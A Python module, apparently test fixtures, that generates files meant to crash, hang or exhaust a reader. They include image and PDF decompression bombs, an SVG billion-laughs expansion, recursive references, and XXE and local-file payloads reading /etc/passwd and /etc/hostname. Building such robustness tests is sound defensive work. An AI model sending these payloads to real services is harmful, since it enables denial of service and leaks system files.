"""Files made to crash, hang or fill a reader, by name."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import zlib
from collections.abc import Callable

SVG_START = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">'
)
SVG_END = b"</svg>"


def svg(inside: bytes) -> bytes:
    return SVG_START + inside + SVG_END


def chunk(tag: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body))


def png(width: int, height: int, *, extra: bytes = b"", depth: int = 8, kind: int = 0, whole: bool = False) -> bytes:
    """A black PNG, of which all rows (`whole`) or only some are there."""
    row = b"\0" * (1 + (width * depth * {0: 1, 2: 3, 3: 1, 6: 4}[kind] + 7) // 8)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(height if whole else min(height, 500))) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, kind, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def text_bomb() -> bytes:
    """A comment of 300 MB, made of one packed piece again and again."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"a") + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(b"a" * 6_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = head + piece * 50 + packer.flush()
    return png(64, 64, extra=chunk(b"zTXt", b"Comment\0\0" + packed), whole=True)


def profile_bomb() -> bytes:
    packed = zlib.compress(b"\0" * 60_000_000, 1)
    return png(64, 64, extra=chunk(b"iCCP", b"sRGB\0\0" + packed), whole=True)


def laughs() -> bytes:
    rows = [b'<!ENTITY a0 "ha">']
    rows += [b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 12)]
    return b"<!DOCTYPE svg [" + b"".join(rows) + b"]>" + svg(b"<text>&a11;</text>")


def entity_from_outside() -> bytes:
    return b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg(b"<text y='50'>&x;</text>")


def entity_set_from_outside() -> bytes:
    return b'<!DOCTYPE svg SYSTEM "file:///etc/passwd">' + svg(b"<text y='50'>&x;</text>")


def uses_within_uses() -> bytes:
    rows = [b'<defs><rect id="u0" width="1" height="1"/>']
    rows += [
        b'<g id="u%d">' % level + b'<use xlink:href="#u%d"/>' % (level - 1) * 10 + b"</g>" for level in range(1, 9)
    ]
    return svg(b"".join(rows) + b'</defs><use xlink:href="#u8"/>')


def use_of_itself() -> bytes:
    return svg(b'<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g>')


def patterns_within_patterns() -> bytes:
    rows = [
        b'<pattern id="p%d" width="2" height="2" patternUnits="userSpaceOnUse"><rect width="90" height="90" '
        b'fill="url(#p%d)"/></pattern>' % (i, i + 1)
        for i in range(40)
    ]
    return svg(b"<defs>" + b"".join(rows) + b'</defs><rect width="100" height="100" fill="url(#p0)"/>')


def dear_filter() -> bytes:
    steps = b'<feTurbulence baseFrequency=".9" numOctaves="400"/><feGaussianBlur stdDeviation="4000"/>' * 30
    area = b'x="-9999%" y="-9999%" width="99999%" height="99999%"'
    return svg(b'<filter id="f" ' + area + b">" + steps + b'</filter><rect width="99" height="99" filter="url(#f)"/>')


def huge_svg() -> bytes:
    return SVG_START.replace(b'"100"', b'"60000"') + b'<rect width="60000" height="60000"/>' + SVG_END


def picture_within() -> bytes:
    inside = base64.b64encode(png(30_000, 30_000, whole=False))
    return svg(b'<image width="100" height="100" xlink:href="data:image/png;base64,' + inside + b'"/>')


def svg_within_svg() -> bytes:
    inside = svg(b'<image width="100" height="100" xlink:href="/etc/hostname"/>' * 5)
    for _ in range(3):
        inside = svg(
            b'<image width="100" height="100" xlink:href="data:image/svg+xml;base64,'
            + base64.b64encode(inside)
            + b'"/>' * 2
        )
    return inside


def jpeg_of_many_scans() -> bytes:
    from PIL import Image

    stream = io.BytesIO()
    Image.linear_gradient("L").resize((1000, 1000)).save(stream, "JPEG", progressive=True)
    data = stream.getvalue()
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * 400 + data[-2:]


def webp_bomb() -> bytes:
    """A lossless WebP whose header claims 16,383 x 16,383."""
    bits = (16382 | 16382 << 14).to_bytes(4, "little")
    body = b"VP8L" + struct.pack("<I", 64) + b"\x2f" + bits + b"\0" * 59
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def gif_bomb() -> bytes:
    screen = struct.pack("<HHBBB", 60_000, 60_000, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"," + struct.pack("<HHHHB", 0, 0, 60_000, 60_000, 0) + b"\x02\x02\x4c\x01\0"
    return b"GIF89a" + screen + frame + b";"


def pdf(page: bytes, content: bytes, resources: bytes = b"<<>>", extra: bytes = b"") -> bytes:
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox" + page + b"/Contents 4 0 R/Resources" + resources + b">>",
        b"<</Length %d>>stream\n" % len(content) + content + b"\nendstream",
    ]
    objects += [extra] if extra else []
    data, places = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj" % number + body + b"endobj\n"
    start = len(data)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + rows
    return data + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)


def pdf_of_a_huge_picture() -> bytes:
    packed = zlib.compress(zlib.compress(b"\0" * 100_000_000, 1), 9)
    picture = (
        b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
        b"/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n" % len(packed) + packed + b"\nendstream"
    )
    return pdf(b"[0 0 200 200]", b"200 0 0 200 0 0 cm /I Do", b"<</XObject<</I 5 0 R>>>>", picture)


def pdf_that_draws_itself() -> bytes:
    box = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 12>>"
    form = box + b"stream\n/F Do /F Do \nendstream"
    return pdf(b"[0 0 200 200]", b"/F Do", b"<</XObject<</F 5 0 R>>>>", form)


def pdf_of_many_strokes() -> bytes:
    return pdf(b"[0 0 200 200]", b"[1 1] 0 d 9 w " + b"0 0 m 199 199 l 0 199 l 199 0 l S " * 300_000)


def pdf_of_a_huge_page() -> bytes:
    return pdf(b"[0 0 900000 900000]", b"0 0 90000 90000 re f")


def tiff_of_pages_in_a_ring() -> bytes:
    entries = [
        (256, 4, 1, 64),
        (257, 4, 1, 64),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 0),
        (279, 4, 1, 4096),
    ]
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<I", 8) + body + struct.pack("<I", 8)


def tiff_of_a_huge_tile() -> bytes:
    """64 x 64 pixels that lie in one tile of 40,000 x 40,000."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(40_000_000)) for _ in range(40)) + packer.flush()
    entries = [
        (256, 4, 1, 64),
        (257, 4, 1, 64),
        (258, 3, 1, 8),
        (259, 3, 1, 8),
        (262, 3, 1, 1),
        (277, 3, 1, 1),
        (322, 4, 1, 40_000),
        (323, 4, 1, 40_000),
        (324, 4, 1, 8),
        (325, 4, 1, len(packed)),
    ]
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries) + bytes(4)
    return b"II*\0" + struct.pack("<I", 8 + len(packed)) + packed + body


def gif_of_many_frames() -> bytes:
    screen = struct.pack("<HHBBB", 64, 64, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = b"," + struct.pack("<HHHHB", 0, 0, 64, 64, 0) + b"\x02\x02\x4c\x01\0"
    return b"GIF89a" + screen + frame * 1_000_000 + b";"


def png_of_many_chunks() -> bytes:
    return png(64, 64, extra=chunk(b"teSt", b"") * 3_000_000, whole=True)


def jpeg_of_many_marks() -> bytes:
    return b"\xff\xd8" + b"\xff\xfe\0\x02" * 5_000_000 + b"\xff\xd9"


def bmp_of_short_runs() -> bytes:
    runs = (b"\1\0\1\1" * 2000 + b"\0\0") * 4000 + b"\0\1"
    header = struct.pack("<IiiHHIIiiII", 40, 4000, 4000, 1, 8, 1, len(runs), 0, 0, 2, 0) + bytes(4) + b"\xff" * 4
    return b"BM" + struct.pack("<IHHI", 14 + len(header) + len(runs), 0, 0, 14 + len(header)) + header + runs


def progressive_jpeg() -> bytes:
    """100 megapixels whose coefficients a decoder would have to keep."""
    from PIL import Image

    stream = io.BytesIO()
    Image.new("L", (10_000, 10_000)).save(stream, "JPEG", progressive=True)
    return stream.getvalue()


ATTACKS: dict[str, Callable[[], bytes]] = {
    "png 50,000 x 50,000": lambda: png(50_000, 50_000),
    "png 30,000 x 30,000": lambda: png(30_000, 30_000),
    "png 10,000 x 10,000": lambda: png(10_000, 10_000, whole=True),
    "png text of 300 MB": text_bomb,
    "png profile of 60 MB": profile_bomb,
    "svg entity from outside": entity_from_outside,
    "svg entity set from outside": entity_set_from_outside,
    "svg billion laughs": laughs,
    "svg million uses": lambda: svg(b'<rect id="r"/>' + b'<use xlink:href="#r"/>' * 1_000_000),
    "svg uses within uses": uses_within_uses,
    "svg use of itself": use_of_itself,
    "svg patterns within patterns": patterns_within_patterns,
    "svg local file": lambda: svg(b'<image width="9" height="9" xlink:href="file:///etc/hostname"/>'),
    "svg 60,000 x 60,000": huge_svg,
    "svg 20,000 deep": lambda: svg(b"<g>" * 20_000 + b"</g>" * 20_000),
    "svg dear filter": dear_filter,
    "svg picture of 30,000 x 30,000 within": picture_within,
    "svg within svg": svg_within_svg,
    "svgz of 60 MB": lambda: gzip.compress(SVG_START + b" " * 60_000_000, 1),
    "jpeg of 400 scans": jpeg_of_many_scans,
    "webp 16,383 x 16,383": webp_bomb,
    "gif 60,000 x 60,000": gif_bomb,
    "pdf of a huge picture": pdf_of_a_huge_picture,
    "pdf that draws itself": pdf_that_draws_itself,
    "pdf of many strokes": pdf_of_many_strokes,
    "pdf of a huge page": pdf_of_a_huge_page,
    "tiff of pages in a ring": tiff_of_pages_in_a_ring,
    "tiff of a huge tile": tiff_of_a_huge_tile,
    "gif of a million frames": gif_of_many_frames,
    "png of 3 million chunks": png_of_many_chunks,
    "jpeg of 5 million marks": jpeg_of_many_marks,
    "bmp of 16 million runs": bmp_of_short_runs,
    "jpeg progressive 10,000 x 10,000": progressive_jpeg,
}


COSTLY = {
    "png 10,000 x 10,000, colour": lambda: png(10_000, 10_000, kind=2, whole=True),
    "png 10,000 x 10,000, deep": lambda: png(10_000, 10_000, depth=16, kind=6, whole=True),
}
